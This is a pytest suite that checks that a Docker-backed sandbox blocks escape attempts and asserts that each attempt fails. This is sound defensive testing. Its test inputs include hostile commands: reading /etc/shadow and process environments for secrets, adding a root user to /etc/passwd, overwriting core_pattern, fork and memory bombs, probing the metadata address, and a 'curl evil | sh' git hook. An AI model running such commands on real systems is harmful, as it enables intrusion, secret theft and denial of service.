"""The bubblewrap suite's attacks that apply to a container, against the Docker backend.

Each test makes one attack through the bus, as a session's call with a
`docker:<image>@sha256:<id>` backend and network `none` would, and asserts that it failed.
Afterwards the `box` fixture releases every session the test used through
`sandbox.release` and checks that no container of the test's owner is left; then the
`host` fixture checks that the canary beside the workspace is intact and that nothing
appeared outside the workspace.

Where the evidence differs from bubblewrap's it is the container's own: the image has its
own `/etc/shadow` (unreadable to the workspace's owner, uid 1000, the container's user), a
host path is simply absent inside, and a host-side marker (in the host's home, in the
state dir) proves that the host is invisible. Without a Docker engine, or without the
test image, every test skips and says why.
"""

from __future__ import annotations

import os
import secrets
import subprocess
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import anyio
import msgspec
import pytest

from bastion.proto import errors as codes
from bastion.proto.sandbox import Limits
from bastion.sandbox.service import sandbox_service
from bastion.sandbox.settings import SandboxSettings
from bastion.shared.bus import Client
from bastion.shared.errors import RemoteError
from bastion.shared.settings import BusSettings
from tests.helpers.bus import ServiceRunner
from tests.helpers.docker import OWNER_UID, Box, containers_of, release
from tests.helpers.sandbox import (
    CANARY,
    SECRET,
    SECRET_ENV,
    Host,
    exists,
    host_bytes,
    read,
    service_pid,
    shell,
    write,
)
from tests.helpers.sleepers import sleeping, unique_duration

MiB = 1024 * 1024
SESSION = "0123456789abcdef"
OTHER_SESSION = "fedcba9876543210"
CONTAINER_MEMORY = 256 * MiB
CONTAINER_PIDS = 64


def _own(path: Path) -> None:
    """Give `path` and all below it to the workspace's owner (tests run as root)."""
    if os.geteuid() != 0:
        return
    os.chown(path, OWNER_UID, OWNER_UID, follow_symlinks=False)
    for below in path.rglob("*"):
        os.chown(below, OWNER_UID, OWNER_UID, follow_symlinks=False)


@pytest.fixture
def host(tmp_path: Path, workspace: Path, engine: Any) -> Iterator[Host]:
    """The attacks' host, its workspace owned by an ordinary user (the container's)."""
    state_dir = tmp_path / "state"
    state_dir.mkdir()
    (state_dir / "sessions.key").write_text("state secret\n")
    canary = tmp_path / "outside.txt"
    canary.write_text(CANARY)
    made = Host(tmp_path, workspace, state_dir, canary, frozenset())
    made.before = made.listing()
    yield made
    # A container's processes are in no per-command cgroup: the `box` fixture checks that
    # no container is left instead.
    made.assert_unchanged(cgroups=False)


@pytest.fixture
def settings(bus_settings: BusSettings, host: Host, owner: str) -> SandboxSettings:
    return SandboxSettings(
        nats_url=bus_settings.nats_url,
        state_dir=str(host.state_dir),
        docker_owner=owner,
        docker_memory_bytes=CONTAINER_MEMORY,
        docker_pids=CONTAINER_PIDS,
    )


@pytest.fixture
async def sandbox(
    run_service: ServiceRunner, settings: SandboxSettings, monkeypatch: pytest.MonkeyPatch
) -> AsyncIterator[None]:
    monkeypatch.setenv(SECRET_ENV, SECRET)
    async with run_service(sandbox_service, settings):
        yield


@pytest.fixture
async def box(
    client: Client, sandbox: None, host: Host, backend_name: str, engine: Any, owner: str
) -> AsyncIterator[Box]:
    made = Box(client, host, backend_name)
    yield made
    for session in sorted(made.sessions):
        await release(client, session)
    assert containers_of(engine, owner) == [], "a container outlived its session"


@pytest.fixture
def host_sleep() -> Iterator[int]:
    """A host process the sandbox should not be able to touch."""
    duration = unique_duration()
    process = subprocess.Popen(["sleep", duration])
    try:
        yield process.pid
        assert process.poll() is None, "the host's process did not survive the attack"
    finally:
        process.kill()
        process.wait()


@dataclass(frozen=True)
class Marker:
    path: Path
    words: str


@pytest.fixture
def home_marker() -> Iterator[Marker]:
    """Files of random words in the host's own home (root's, in CI) and, world-readable,
    in the host's /home: neither is in the image."""
    words = f"home-marker-{secrets.token_hex(8)}"
    name = f".bastion-attack-{secrets.token_hex(4)}"
    made = [Path.home() / name]
    if os.access("/home", os.W_OK):
        made.append(Path("/home") / name)
    for path in made:
        path.write_text(words + "\n")
        path.chmod(0o644)
    try:
        yield Marker(made[0], words)
    finally:
        for path in made:
            path.unlink()


@pytest.fixture
def state_marker(host: Host) -> Marker:
    """A file of random words in the state dir (a part of the host listing from the start)."""
    words = f"state-marker-{secrets.token_hex(8)}"
    path = host.state_dir / "marker"
    path.write_text(words + "\n")
    host.before = host.listing()
    return Marker(path, words)


# --- reading what is not the workspace -------------------------------------------------


async def test_the_images_etc_shadow_is_unreadable_to_the_workspaces_owner(
    box: Box,
) -> None:
    result = await box.shell("ls -l /etc/shadow; cat /etc/shadow")
    assert result.exit_status != 0
    assert result.stdout.startswith("-rw-r----- 1 root shadow")  # the image's own file...
    assert "cat: /etc/shadow: Permission denied" in result.stderr  # ...and not for uid 1000


async def test_markers_in_the_hosts_home_directories_are_invisible(
    box: Box, home_marker: Marker
) -> None:
    result = await box.shell(
        f"cat {home_marker.path}; stat -c '%U %a' /root; ls -A /home; "
        "find / -path /proc -prune -o -path /sys -prune -o -name '.bastion-attack-*' -print"
    )
    assert home_marker.words not in result.stdout
    assert result.stdout == "root 700\n"  # the image's own /root, and an empty /home
    assert f"cat: {home_marker.path}: Permission denied" in result.stderr


async def test_the_state_dir_is_absent_inside(box: Box, state_marker: Marker) -> None:
    result = await box.shell(
        f"cat {box.host.state_dir}/sessions.key {state_marker.path}; ls {box.host.state_dir}"
    )
    assert result.stdout == ""
    assert "state secret" not in result.stdout and state_marker.words not in result.stdout
    assert result.stderr.count("No such file or directory") == 3


async def test_the_canary_beside_the_workspace_is_absent_inside(box: Box) -> None:
    result = await box.shell(f"cat {box.host.canary} ../outside.txt; ls -A ..")
    assert CANARY not in result.stdout
    assert result.stderr.count("No such file or directory") == 2
    assert "outside.txt" not in result.stdout


async def test_proc_1_is_the_containers_own_init_without_the_services_secret(box: Box) -> None:
    result = await box.shell("tr '\\0' '\\n' < /proc/1/environ; tr '\\0' ' ' < /proc/1/cmdline")
    assert SECRET not in result.stdout
    assert "NATS" not in result.stdout and "BASTION" not in result.stdout
    assert "while :; do sleep 3600 & wait; done" in result.stdout  # the backend's init
    own_init = host_bytes("/proc/1/cmdline").split(b"\0")[0].decode()
    assert own_init not in result.stdout


async def test_the_services_own_environ_is_out_of_reach(box: Box) -> None:
    result = await box.shell(f"cat /proc/{service_pid()}/environ; grep -l {SECRET} /proc/*/environ")
    assert SECRET not in result.stdout
    assert result.exit_status != 0


async def test_the_environment_holds_no_bastion_or_nats_variable(box: Box) -> None:
    result = await box.shell("env")
    assert "BASTION" not in result.stdout
    assert "NATS" not in result.stdout
    assert SECRET not in result.stdout


# --- writing outside the workspace -----------------------------------------------------


async def test_writing_tmp_stays_in_the_containers_own_tmpfs(box: Box) -> None:
    target = Path(f"/tmp/bastion-attack-{secrets.token_hex(4)}")
    result = await box.shell(f"echo x > {target} && cat {target}; grep ' /tmp ' /proc/mounts")
    assert result.stdout.startswith("x\ntmpfs /tmp tmpfs rw")  # its own /tmp...
    assert not exists(str(target))  # ...and not the host's


async def test_writing_usr_fails(box: Box) -> None:
    before = host_bytes("/usr/bin/env")
    result = await box.shell("touch /usr/bin/planted; echo x >> /usr/bin/env")
    assert "cannot touch '/usr/bin/planted': Read-only file system" in result.stderr
    assert "cannot create /usr/bin/env: Permission denied" in result.stderr  # root's file
    assert not exists("/usr/bin/planted")
    assert host_bytes("/usr/bin/env") == before


async def test_writing_etc_and_the_root_fails(box: Box) -> None:
    before = host_bytes("/etc/passwd")
    result = await box.shell(
        "echo 'evil:x:0:0::/:/bin/sh' >> /etc/passwd; touch /etc/planted; mkdir /planted"
    )
    assert "cannot create /etc/passwd: Permission denied" in result.stderr  # root's file
    assert result.stderr.count("Read-only file system") == 2
    assert host_bytes("/etc/passwd") == before
    assert not exists("/etc/planted") and not exists("/planted")


async def test_writing_the_state_dir_fails(box: Box) -> None:
    state = box.host.state_dir
    result = await box.shell(
        f"echo x > {state}/planted || echo refused; "
        f"mkdir -p {state} && echo x > {state}/planted && grep -c x {state}/planted"
    )
    assert "Directory nonexistent" in result.stderr
    # Under /tmp, as in tests, the path can be made: in the container's own /tmp.
    assert result.stdout == "refused\n1\n"
    assert not (state / "planted").exists()


async def test_sys_and_dev_are_not_writable(box: Box) -> None:
    result = await box.shell(
        "echo 1 > /sys/kernel/mm/transparent_hugepage/enabled; touch /dev/planted; "
        "grep ' /sys ' /proc/mounts; echo fine > /dev/null && echo null-works"
    )
    assert "/sys/kernel/mm/transparent_hugepage/enabled: Read-only file system" in result.stderr
    assert "cannot touch '/dev/planted': Permission denied" in result.stderr
    assert result.stdout.startswith("sysfs /sys sysfs ro,")
    assert result.stdout.endswith("null-works\n")


async def test_proc_sys_kernel_is_not_writable(box: Box) -> None:
    before = host_bytes("/proc/sys/kernel/printk_ratelimit")
    pattern = host_bytes("/proc/sys/kernel/core_pattern")
    result = await box.shell(
        "echo 5 > /proc/sys/kernel/printk_ratelimit; "
        "echo '|/workspace/x' > /proc/sys/kernel/core_pattern"
    )
    assert result.stderr.count("Read-only file system") == 2
    assert host_bytes("/proc/sys/kernel/printk_ratelimit") == before
    assert host_bytes("/proc/sys/kernel/core_pattern") == pattern


# --- links and paths out of the workspace ----------------------------------------------


async def test_a_symlink_to_the_host_leads_the_shell_nowhere(box: Box) -> None:
    (box.host.workspace / "leak").symlink_to(box.host.canary)
    result = await box.shell("cat leak; echo overwritten > leak")
    assert CANARY not in result.stdout
    assert "cat: leak: No such file or directory" in result.stderr
    assert "cannot create leak: Directory nonexistent" in result.stderr


async def test_a_symlink_the_shell_plants_to_root_does_not_reach_the_host(box: Box) -> None:
    result = await box.shell(
        f"ln -s / root && echo x > root{box.host.root}/planted; echo x > root/usr/planted"
    )
    assert "planted: Directory nonexistent" in result.stderr
    assert "cannot create root/usr/planted: Read-only file system" in result.stderr
    assert not (box.host.root / "planted").exists()
    assert not exists("/usr/planted")
    (box.host.workspace / "root").unlink()


async def test_a_hardlink_from_the_shell_to_a_file_outside_fails(box: Box) -> None:
    result = await box.shell("ln /usr/bin/env hl; ln /etc/hostname h2; ln /tmp h3")
    assert result.stderr.count("Invalid cross-device link") == 2
    assert sorted(os.listdir(box.host.workspace)) == [".git"]  # the empty, read-only placeholder


@pytest.mark.parametrize("tool", ["read_file", "write_file"])
async def test_the_file_tools_refuse_a_symlink_the_shell_planted(box: Box, tool: str) -> None:
    planted = await box.shell(f"ln -s {box.host.canary} leak && ln -s .. up && ln -s / root")
    assert planted.exit_status == 0
    for path in ("leak", "up/outside.txt", "root/etc/passwd"):
        with pytest.raises(RemoteError) as raised:
            if tool == "read_file":
                await read(box.client, box.host.workspace, path)
            else:
                await write(box.client, box.host.workspace, path, "overwritten\n")
        assert raised.value.code == codes.INVALID_INPUT
        assert "outside the workspace" in raised.value.message


async def test_the_file_tools_refuse_to_write_through_a_hardlink_to_the_host(box: Box) -> None:
    os.link(box.host.canary, box.host.workspace / "linked")
    await box.shell("true")  # the session is a Docker one
    with pytest.raises(RemoteError) as raised:
        await write(box.client, box.host.workspace, "linked", "overwritten\n")
    assert raised.value.code == codes.INVALID_INPUT
    assert "hard links" in raised.value.message


@pytest.mark.parametrize("path", ["../outside.txt", "a/../../outside.txt", "/etc/passwd"])
async def test_the_file_tools_refuse_dot_dot_and_absolute_paths_out(box: Box, path: str) -> None:
    made = await box.shell("mkdir a")
    assert made.exit_status == 0
    for attempt in (
        read(box.client, box.host.workspace, path),
        write(box.client, box.host.workspace, path, "x"),
    ):
        with pytest.raises(RemoteError) as raised:
            await attempt
        assert raised.value.code == codes.INVALID_INPUT
        assert "outside the workspace" in raised.value.message


async def test_another_workspace_beside_this_one_is_absent_inside(box: Box) -> None:
    other = box.host.root / "other-session"
    other.mkdir()
    (other / "notes.txt").write_text("another session's\n")
    box.host.before = box.host.listing()
    result = await box.shell(f"ls {box.host.root}; cat {other}/notes.txt")
    assert "another session's" not in result.stdout
    assert result.stderr.count("No such file or directory") == 2


# --- the network -----------------------------------------------------------------------


async def test_nats_on_the_hosts_loopback_is_unreachable(
    box: Box, bus_settings: BusSettings
) -> None:
    port = urlparse(bus_settings.nats_url).port
    result = await box.shell(
        f"bash -c 'echo PING > /dev/tcp/127.0.0.1/{port}' && echo reached; ls /sys/class/net"
    )
    assert result.stdout == "lo\n"  # the container's own loopback, and nothing else
    assert "Connection refused" in result.stderr


async def test_a_host_listener_on_loopback_receives_no_connection(box: Box) -> None:
    accepted: list[object] = []
    async with await anyio.create_tcp_listener(local_host="127.0.0.1") as listener:
        port = listener.extra(anyio.abc.SocketAttribute.local_port)
        async with anyio.create_task_group() as group:
            group.start_soon(listener.serve, accepted.append)
            result = await box.shell(
                f"bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}' && echo reached"
            )
            group.cancel_scope.cancel()
    assert "reached" not in result.stdout
    assert "Connection refused" in result.stderr
    assert accepted == []


async def test_the_cloud_metadata_address_is_unreachable(box: Box) -> None:
    # With network `none` there is no route but loopback: the connect fails in the
    # container, before any packet could leave it.
    result = await box.shell(
        "bash -c 'echo x > /dev/tcp/169.254.169.254/80' && echo reached; cat /proc/net/route"
    )
    assert "reached" not in result.stdout
    assert "Network is unreachable" in result.stderr
    assert len(result.stdout.splitlines()) == 1  # the route table's header: no route at all


async def test_no_name_resolves(box: Box) -> None:
    result = await box.shell("getent hosts example.com || echo unresolved")
    assert result.stdout == "unresolved\n"


# --- privilege -------------------------------------------------------------------------


async def test_mount_fails(box: Box) -> None:
    result = await box.shell(
        "mount -t tmpfs none /workspace && echo mounted; mount --bind / /mnt && echo bound; "
        "unshare -m true && echo own-mounts"
    )
    assert result.stdout == ""
    assert result.stderr.count("must be superuser to use mount") == 2
    assert "unshare failed: Operation not permitted" in result.stderr


async def test_a_nested_user_namespace_cannot_be_made(box: Box) -> None:
    result = await box.shell(
        "unshare -U true && echo nested; unshare -r id -u && echo root; "
        "unshare -U -r -m -p -f id -u && echo all"
    )
    assert result.stdout == ""
    assert result.stderr.count("unshare failed: Operation not permitted") == 3


async def test_setuid_binaries_gain_nothing_and_su_fails(box: Box) -> None:
    result = await box.shell(
        "cp /usr/bin/id ./id && chmod u+s ./id && ./id -u; ls -l /usr/bin/su | cut -c1-4; "
        "su -c id root < /dev/null 2>/dev/null || echo no-su; "
        "mount 2>/dev/null | head -1 >/dev/null; umount /proc 2>&1 | grep -c 'must be superuser'"
    )
    assert result.stdout == f"{OWNER_UID}\n-rws\nno-su\n1\n"
    (box.host.workspace / "id").unlink()


async def test_there_are_no_capabilities_and_no_new_privileges(box: Box) -> None:
    result = await box.shell("grep -E '^(Cap|NoNewPrivs)' /proc/self/status")
    fields = dict(line.split(":\t") for line in result.stdout.splitlines())
    for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        assert int(fields[name], 16) == 0, name
    assert fields["NoNewPrivs"] == "1"


async def test_chroot_fails(box: Box) -> None:
    result = await box.shell("mkdir j && chroot j /bin/true || echo refused")
    assert result.stdout == "refused\n"
    assert "Operation not permitted" in result.stderr
    (box.host.workspace / "j").rmdir()


async def test_creating_a_device_node_fails(box: Box) -> None:
    result = await box.shell("mknod disk b 8 0; mknod mem c 1 1; mkfifo fifo; ls")
    assert result.stdout == "fifo\n"  # a FIFO is harmless and allowed; devices are not
    assert result.stderr.count("Operation not permitted") == 2
    (box.host.workspace / "fifo").unlink()


async def test_the_hostname_is_the_containers_and_cannot_be_changed(box: Box) -> None:
    result = await box.shell("hostname; hostname evil || echo refused")
    assert result.stdout == "sandbox\nrefused\n"
    assert "you must be root" in result.stderr


# --- processes -------------------------------------------------------------------------


async def test_only_the_containers_own_processes_are_visible(box: Box, host_sleep: int) -> None:
    result = await box.shell("ls /proc | grep -E '^[0-9]+$'; cat /proc/*/cmdline | tr '\\0' ' '")
    pids = [int(word) for word in result.stdout.split() if word.isdigit()]
    assert len([pid for pid in pids if pid < 100]) < 10
    assert str(host_sleep) not in result.stdout.split()
    assert "sleep 3600." not in result.stdout  # the host's sleep has a unique duration


async def test_killing_or_tracing_a_host_process_fails_and_it_survives(
    box: Box, host_sleep: int
) -> None:
    result = await box.shell(
        f"kill -9 {host_sleep} || echo refused; cat /proc/{host_sleep}/maps || echo unseen"
    )
    assert result.stdout == "refused\nunseen\n"
    assert "No such process" in result.stderr


async def test_killing_every_process_reaches_only_the_container(box: Box, host_sleep: int) -> None:
    duration = unique_duration()
    await box.shell(f"echo kept > /tmp/kept; setsid sleep {duration} > /dev/null 2>&1 &")
    result = await box.shell("kill -KILL -1; echo survived")
    assert result.stdout == "survived\n"  # kill(-1) spares its caller...
    assert sleeping(duration) == []  # ...and kills the session's background process
    after = await box.shell("cat /tmp/kept")
    assert after.stdout == "kept\n"  # the init, pid 1 of the container, lived on
    # The host's sleep is checked alive by its fixture once the attack is over.


# --- resources -------------------------------------------------------------------------


async def test_a_fork_bomb_is_bounded_by_the_pids_limit_and_the_call_returns(
    box: Box, host_sleep: int
) -> None:
    result = await box.shell("bash -c ':(){ :|:& };:'", limits=Limits(wall_s=2.0))
    assert "fork: retry: Resource temporarily unavailable" in result.stderr
    assert (await anyio.run_process(["true"])).returncode == 0  # the host forks on
    after = await box.shell("echo fresh")
    assert after.stdout == "fresh\n"  # and the session goes on


async def test_a_memory_bomb_is_killed_by_the_containers_memory_limit(box: Box) -> None:
    bomb = "python3 -c 'a = []\nwhile True: a.append(bytearray(10**7))'"
    result = await box.shell(bomb, limits=Limits(wall_s=30.0))
    assert (result.ended, result.signal) == ("signal", 9)
    after = await box.shell("echo still here")
    assert after.stdout == "still here\n"  # only the bomb was killed, not the container


async def test_ten_mebibytes_of_output_are_cut_to_the_cap(box: Box) -> None:
    result = await box.shell(
        "head -c 10485760 /dev/zero | tr '\\0' a", limits=Limits(output_bytes=64 * 1024)
    )
    assert result.stdout_cut == 10 * MiB - 64 * 1024
    assert len(result.stdout.encode()) < 64 * 1024 + 100


async def test_a_file_past_the_per_file_limit_is_capped(box: Box) -> None:
    result = await box.shell(
        "head -c 2M /dev/zero > big; echo status=$?", limits=Limits(file_size_bytes=MiB)
    )
    assert result.stdout == "status=153\n"  # 128 + SIGXFSZ
    assert "File size limit exceeded" in result.stderr
    assert (box.host.workspace / "big").stat().st_size == MiB
    (box.host.workspace / "big").unlink()


async def test_the_wall_clock_kills_a_sleep_and_its_children(box: Box) -> None:
    duration = unique_duration()
    result = await box.shell(
        f"(sleep {duration} &) ; sleep {duration} & sleep {duration}",
        limits=Limits(wall_s=0.5),
    )
    assert result.ended == "timeout"
    assert sleeping(duration) == []  # the host sees every process of the container


async def test_two_sessions_tmp_are_invisible_to_each_other(
    box: Box, engine: Any, owner: str
) -> None:
    first = await box.shell("echo mine > /tmp/a-secret && echo written")
    second = await box.shell("ls -A /tmp; cat /tmp/a-secret", session=OTHER_SESSION)
    again = await box.shell("cat /tmp/a-secret")
    assert first.stdout == "written\n"
    assert len(containers_of(engine, owner)) == 2  # both sessions' containers at once
    assert second.stdout == ""
    assert "No such file or directory" in second.stderr
    assert again.stdout == "mine\n"  # the first session's /tmp was there all along


# --- the workspace's own protected files -----------------------------------------------


def _git_repo(workspace: Path) -> str:
    """A repository of the workspace's owner; its config's text."""
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    _own(workspace / ".git")
    return (workspace / ".git/config").read_text()


GIT_ATTACK = (
    "echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[core] x = 1' >> .git/config; "
    "echo ok > .git/description && echo fine"
)


async def test_git_hooks_and_config_are_read_only_by_default(box: Box) -> None:
    config = _git_repo(box.host.workspace)
    result = await box.shell(GIT_ATTACK)
    assert result.stderr.count("Read-only file system") == 2
    assert result.stdout == "fine\n"  # the rest of .git is the workspace's, writable
    assert not (box.host.workspace / ".git/hooks/pre-commit").exists()
    assert (box.host.workspace / ".git/config").read_text() == config


async def test_a_repository_made_during_a_session_is_protected_from_the_next_call(
    box: Box,
) -> None:
    before = await box.shell("echo started > /tmp/state")
    assert before.exit_status == 0
    config = _git_repo(box.host.workspace)
    result = await box.shell(GIT_ATTACK)
    assert result.stderr.count("Read-only file system") == 2
    assert not (box.host.workspace / ".git/hooks/pre-commit").exists()
    assert (box.host.workspace / ".git/config").read_text() == config


async def test_a_missing_hooks_directory_is_made_the_owners_and_read_only(box: Box) -> None:
    _git_repo(box.host.workspace)
    for hook in (box.host.workspace / ".git/hooks").iterdir():
        hook.unlink()
    (box.host.workspace / ".git/hooks").rmdir()
    result = await box.shell("echo 'curl evil | sh' > .git/hooks/pre-commit")
    assert "Read-only file system" in result.stderr
    hooks = box.host.workspace / ".git/hooks"
    assert list(hooks.iterdir()) == []
    assert hooks.stat().st_uid == OWNER_UID


async def test_symlinked_hooks_and_config_refuse_the_call_saying_which_to_fix(
    box: Box,
) -> None:
    """As with bubblewrap: git on the host would follow a link where no mount protects it."""
    _git_repo(box.host.workspace)
    git = box.host.workspace / ".git"
    (git / "hooks").rename(box.host.workspace / "myhooks")
    (git / "hooks").symlink_to("../myhooks")
    with pytest.raises(RemoteError) as refused:
        await box.shell(GIT_ATTACK)
    assert refused.value.code == codes.INVALID_INPUT
    assert ".git/hooks is a symbolic link" in refused.value.message
    assert not (box.host.workspace / "myhooks/pre-commit").exists()


async def test_the_operator_can_let_commands_write_git_hooks(
    client: Client,
    run_service: ServiceRunner,
    settings: SandboxSettings,
    host: Host,
    backend_name: str,
    engine: Any,
    owner: str,
) -> None:
    _git_repo(host.workspace)
    lifted = msgspec.structs.replace(settings, git_writable=True)
    async with run_service(sandbox_service, lifted):
        result = await shell(
            client,
            host.workspace,
            "echo true > .git/hooks/pre-commit",
            backend=backend_name,
            network="none",
        )
        assert await release(client, SESSION) == 1
    assert containers_of(engine, owner) == []
    assert result.exit_status == 0
    assert (host.workspace / ".git/hooks/pre-commit").read_text() == "true\n"


async def test_an_extra_read_only_dir_is_shown_but_not_writable(box: Box) -> None:
    shared = box.host.root / "reference"
    shared.mkdir()
    (shared / "doc.txt").write_text("reference\n")
    _own(shared)
    box.host.before = box.host.listing()
    result = await box.shell(
        f"cat {shared}/doc.txt; echo x > {shared}/doc.txt; touch {shared}/new",
        read_only_dirs=(str(shared),),
    )
    assert result.stdout == "reference\n"
    assert result.stderr.count("Read-only file system") == 2
    assert (shared / "doc.txt").read_text() == "reference\n"
